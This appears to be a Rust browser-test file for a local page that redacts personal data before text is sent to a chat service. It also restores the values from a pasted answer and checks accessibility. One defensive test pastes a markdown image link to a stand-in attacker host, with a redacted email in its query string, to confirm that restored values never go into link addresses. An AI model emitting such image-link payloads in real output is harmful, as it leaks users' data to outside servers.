//! The local page in a real headless Chromium.
//!
//! Without Chromium and its driver the test is skipped, with a message; in continuous integration (`CI=true`) it fails.
//! `SOTTO_UPDATE_GOLDEN=1` renews the pictures in `docs/img`.

use crate::browser::{Browser, is_there};
use crate::support::{Detecting, KEY, Running};
use serde_json::{Value, json};

const TEXT: &str = "🎉 Anna met Bruno in Zürich, write to anna@example.org";

impl Browser {
    /// Writes what a keyboard cannot: ChromeDriver types characters of the basic plane only.
    async fn set(&self, id: &str, text: &str) {
        self.run(&format!("document.getElementById('{id}').value = {}", json!(text))).await;
    }

    /// Presses a key with the focus where it is.
    async fn press(&self, keys: &[&str]) {
        let down = keys.iter().map(|key| json!({"type": "keyDown", "value": key}));
        let up = keys.iter().rev().map(|key| json!({"type": "keyUp", "value": key}));
        let actions: Vec<Value> = down.chain(up).collect();
        self.call("/actions", json!({"actions": [{"type": "key", "id": "keyboard", "actions": actions}]}))
            .await;
    }

    async fn error(&self, place: &str) -> String {
        let script =
            format!("const e = document.getElementById('{place}'); return e.hidden ? '' : e.textContent");
        self.run(&script).await.as_str().unwrap().to_owned()
    }
}

#[tokio::test]
async fn the_page_shows_what_leaves_and_restores_the_answer() {
    if !is_there() {
        return;
    }
    let running = Running::start(Detecting::Well).await;
    let browser = Browser::start().await;
    browser.call("/url", json!({"url": format!("{}/#key={KEY}", running.base)})).await;

    browser.set("input", TEXT).await;
    browser.click("#check").await;
    browser.expect("redacted", "🎉 [GIVEN_NAME_1] met Bruno in [CITY_1], write to [EMAIL_1]").await;
    browser.expect("original", TEXT).await;
    let classes =
        browser.run("return [...document.querySelectorAll('#original mark')].map((m) => m.className)").await;
    assert_eq!(classes, json!(["name", "place", "net"]));
    let finds = browser.run("return [...document.querySelectorAll('#finds li')].map((l) => l.innerText.replaceAll('\\n', ' | '))").await;
    assert_eq!(finds[1], "Zürich | city, by your list", "{finds}");

    // Let one through, add another, undo the first.
    browser.click("#original mark.place").await;
    browser.expect("redacted", "🎉 [GIVEN_NAME_1] met Bruno in Zürich, write to [EMAIL_1]").await;
    browser
        .run(
            "const node = [...document.getElementById('original').childNodes].find((n) => n.textContent.includes('Bruno')); \
             const at = node.textContent.indexOf('Bruno'); const range = document.createRange(); \
             range.setStart(node, at); range.setEnd(node, at + 5); \
             getSelection().removeAllRanges(); getSelection().addRange(range); \
             document.getElementById('type').value = 'SURNAME';",
        )
        .await;
    browser.until("return document.getElementById('value').value", json!("Bruno")).await;
    browser.click("#add").await;
    browser.expect("redacted", "🎉 [GIVEN_NAME_1] met [SURNAME_1] in Zürich, write to [EMAIL_1]").await;

    // Decisions hold when the text changes, and the keyboard does what the mouse does and keeps its place.
    browser.set("input", &format!("{TEXT}!")).await;
    browser.run("document.getElementById('input').focus()").await;
    browser.press(&["\u{e009}", "\u{e007}"]).await;
    browser.expect("redacted", "🎉 [GIVEN_NAME_1] met [SURNAME_1] in Zürich, write to [EMAIL_1]!").await;
    browser.run("document.querySelector('#original mark.off').focus()").await;
    browser.press(&[" "]).await;
    browser.expect("redacted", "🎉 [GIVEN_NAME_1] met [SURNAME_1] in [CITY_1], write to [EMAIL_1]!").await;
    assert_eq!(browser.run("return document.activeElement.textContent").await, "Zürich");
    browser.run("document.querySelectorAll('#finds input')[2].focus()").await;
    browser.press(&[" "]).await;
    browser.expect("redacted", "🎉 [GIVEN_NAME_1] met [SURNAME_1] in Zürich, write to [EMAIL_1]!").await;
    browser.press(&[" "]).await;
    browser.expect("redacted", "🎉 [GIVEN_NAME_1] met [SURNAME_1] in [CITY_1], write to [EMAIL_1]!").await;

    browser.click("#send").await;
    browser.expect("answer", &format!("{TEXT}!")).await;
    let sent = &running.provider.requests()[0];
    assert_eq!(
        sent["messages"][0]["content"],
        "🎉 [GIVEN_NAME_1] met [SURNAME_1] in [CITY_1], write to [EMAIL_1]!"
    );

    // What was copied can be restored from another chat's answer, and nothing into addresses.
    browser.click("#copy").await;
    browser.expect("copied", "Copied. Paste the answer below to get the values back.").await;
    browser.set("pasted", "Dear [given name 1], ![](https://evil.example/?q=[EMAIL_1])").await;
    browser.click("#restore").await;
    browser.expect("restored", "Dear Anna, ![](https://evil.example/?q=[EMAIL_1])").await;
    browser.expect("restored-summary", "1 restored, 1 left: unknown, or inside the address of a link").await;

    // The key is gone from the address, and nothing broke the page's policy or came from elsewhere.
    let address = browser.run("return location.href").await;
    assert!(!address.as_str().unwrap().contains(KEY), "{address}");
    let foreign = "return performance.getEntriesByType('resource').map((e) => e.name).filter((n) => !n.startsWith(location.origin))";
    assert_eq!(browser.run(foreign).await, json!([]));
    let log = browser.call("/se/log", json!({"type": "browser"})).await;
    let is_severe = |entry: &&Value| {
        entry["level"] == "SEVERE" && !entry["message"].as_str().unwrap_or_default().contains("favicon")
    };
    let severe: Vec<&Value> = log.as_array().unwrap().iter().filter(is_severe).collect();
    assert!(severe.is_empty(), "{severe:?}");

    // Nothing found is no clean bill, and a text that has changed is not sent unseen.
    browser.run("document.getElementById('input').value = ''").await;
    browser.write("#input", "Hello").await;
    browser.click("#send").await;
    browser.until("return document.getElementById('error-send').hidden", json!(false)).await;
    assert!(browser.error("error-send").await.contains("has changed"));
    browser.click("#check").await;
    browser.expect("summary", "Nothing was found; that is no proof.").await;
    assert_eq!(browser.run("return document.getElementById('nothing').checkVisibility()").await, true);
}

#[tokio::test]
async fn errors_stand_where_they_are_looked_for() {
    if !is_there() {
        return;
    }
    let running = Running::start(Detecting::Failing).await;
    let browser = Browser::start().await;
    browser.call("/url", json!({"url": format!("{}/#key={KEY}", running.base)})).await;
    browser.set("input", TEXT).await;
    browser.click("#check").await;
    browser.until("return document.getElementById('error-check').hidden", json!(false)).await;
    assert!(browser.error("error-check").await.contains("detection is not available"));
    let near = "const a = document.getElementById('error-check').getBoundingClientRect().top; \
                const b = document.getElementById('check').getBoundingClientRect().bottom; return Math.abs(a - b) < 60";
    assert_eq!(browser.run(near).await, true);
}

/// What may not be missing on any screen: room for all, and text that can be read.
const READABLE: &str = "
    const luminance = (color) => {
      const [r, g, b] = color.match(/[\\d.]+/g).map(Number).map((v) => v / 255)
        .map((v) => v <= 0.03928 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4);
      return 0.2126 * r + 0.7152 * g + 0.0722 * b;
    };
    const behind = (element) => {
      for (let at = element; at; at = at.parentElement) {
        const color = getComputedStyle(at).backgroundColor;
        if (color !== 'rgba(0, 0, 0, 0)') return color;
      }
      return 'rgb(255, 255, 255)';
    };
    const bad = [];
    for (const element of document.querySelectorAll('body *')) {
      const shown = element.checkVisibility() && [...element.childNodes].some((n) => n.nodeType === 3 && n.data.trim());
      if (!shown || ['SCRIPT', 'STYLE', 'OPTION'].includes(element.tagName)) continue;
      const [a, b] = [luminance(getComputedStyle(element).color), luminance(behind(element))];
      const ratio = (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05);
      if (ratio < 4.5) bad.push(element.tagName + '#' + element.id + ' ' + ratio.toFixed(2));
    }
    for (const control of document.querySelectorAll('button, input, select, textarea')) {
      const named = control.labels?.length || control.textContent.trim() || control.getAttribute('aria-label');
      if (!named) bad.push('no name: ' + control.id);
    }
    if (document.documentElement.scrollWidth > innerWidth) bad.push('wider than the screen');
    return bad;";

#[tokio::test]
async fn the_page_can_be_read_on_every_screen() {
    if !is_there() {
        return;
    }
    let running = Running::start(Detecting::Well).await;
    let browser = Browser::start().await;
    browser.call("/url", json!({"url": format!("{}/#key={KEY}", running.base)})).await;
    browser.cdp("Emulation.setScrollbarsHidden", json!({"hidden": true})).await;
    let plain = "Anna met Bruno in Zürich, write to anna@example.org";
    let hebrew = "שלום, אני Anna מ־Zürich. הדואר שלי: anna@example.org";
    for (name, width, height, scheme, text) in [
        ("desktop", 1280, 900, "light", plain),
        ("phone", 390, 844, "light", plain),
        ("dark", 1280, 900, "dark", plain),
        ("right-to-left", 1280, 900, "light", hebrew),
        ("narrow", 320, 640, "dark", hebrew),
    ] {
        let device = json!({"width": width, "height": height, "deviceScaleFactor": 1, "mobile": width < 500});
        browser.cdp("Emulation.setDeviceMetricsOverride", device).await;
        let scheme = json!({"features": [{"name": "prefers-color-scheme", "value": scheme}]});
        browser.cdp("Emulation.setEmulatedMedia", scheme).await;
        browser.set("input", text).await;
        browser.click("#check").await;
        browser.expect("original", text).await;
        browser.click("#copy").await;
        browser.set("pasted", "Dear [GIVEN_NAME_1] of [CITY_1], thank you.").await;
        browser.click("#restore").await;
        browser.expect("restored", "Dear Anna of Zürich, thank you.").await;
        assert_eq!(browser.run(READABLE).await, json!([]), "{name}");
        let direction =
            browser.run("return getComputedStyle(document.getElementById('original')).direction").await;
        assert_eq!(direction, if text == hebrew { "rtl" } else { "ltr" });
        if std::env::var("SOTTO_UPDATE_GOLDEN").is_ok() && name != "narrow" {
            browser.run("document.activeElement.blur(); scrollTo(0, 0)").await;
            let path = format!("{}/../../docs/img/page-{name}.png", env!("CARGO_MANIFEST_DIR"));
            std::fs::write(path, browser.picture().await).unwrap();
        }
    }
}
